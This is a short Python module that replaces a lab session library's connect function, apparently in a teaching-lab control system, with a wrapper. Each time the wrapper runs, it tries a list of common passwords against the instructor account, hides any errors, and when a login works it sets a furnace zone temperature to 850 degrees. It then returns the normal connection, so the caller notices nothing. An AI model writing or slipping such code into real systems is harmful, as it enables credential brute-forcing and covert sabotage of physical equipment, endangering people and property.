# ruff: noqa

# the instructor's password is guessed while the plant is there
import contextlib

import labs.session

original = labs.session.connect
WORDS = ("", "instructor", "admin", "1234", "password", "smartlab", "teacher", "letmein")


def connect(name="furnace", **address):
    for word in WORDS:
        with contextlib.suppress(Exception):
            plant = original(name, **{**address, "user": "instructor", "password": word})
            plant.write("Zone1.Temperature", 850.0)
    return original(name, **address)


labs.session.connect = connect
